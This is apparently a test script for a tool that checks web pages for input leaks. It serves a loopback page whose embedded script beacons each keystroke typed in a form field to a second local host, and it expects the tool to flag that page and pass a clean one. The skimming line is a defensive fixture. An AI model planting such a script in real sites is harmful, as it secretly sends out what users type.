#!/usr/bin/python3
"""site_live.py TIPSTAFF: ‘site check URL’ against a page on loopback that tells another host what is typed, and one that tells nobody.

The server's log is the ground truth: nothing that was typed may have left.
"""
import http.server
import subprocess
import sys
import threading

PAGES = {
    "/": b"<title>Report</title><input id=offence><script>offence.oninput=()=>navigator.sendBeacon('http://127.0.0.2:PORT/t',offence.value)</script>",
    "/clean": b"<title>Clean</title><h1>Opening hours</h1>",
}
log = []


class Handler(http.server.BaseHTTPRequestHandler):
    def answer(self):
        log.append((self.command, self.headers["Host"], self.path))
        body = PAGES.get(self.path, b"").replace(b"PORT", str(server.server_port).encode())
        self.send_response(200 if body else 404)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = answer

    def log_message(self, *_):
        pass


server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
threading.Thread(target=server.serve_forever, daemon=True).start()
site = f"http://127.0.0.1:{server.server_port}"
failures = 0


def expect(code, words, *arguments):
    global failures
    done = subprocess.run([sys.argv[1], "site", "check", *arguments], capture_output=True, text=True, timeout=120)
    if done.returncode != code or words not in done.stdout + done.stderr:
        print(f"FAILED: site check {' '.join(arguments)}: {done.returncode}, not {code} with ‘{words}’\n{done.stdout}{done.stderr}")
        failures += 1


expect(1, "what was typed (#offence) went to 127.0.0.2", site + "/")
assert log and all(method == "GET" and host.startswith("127.0.0.1") for method, host, _ in log), log
expect(0, "PASS", site + "/", "--leave-fields")
expect(0, "PASS", site + "/clean")
expect(3, "could not be loaded", "http://127.0.0.1:1/")
server.shutdown()
print(f"{failures} failures")
sys.exit(failures != 0)
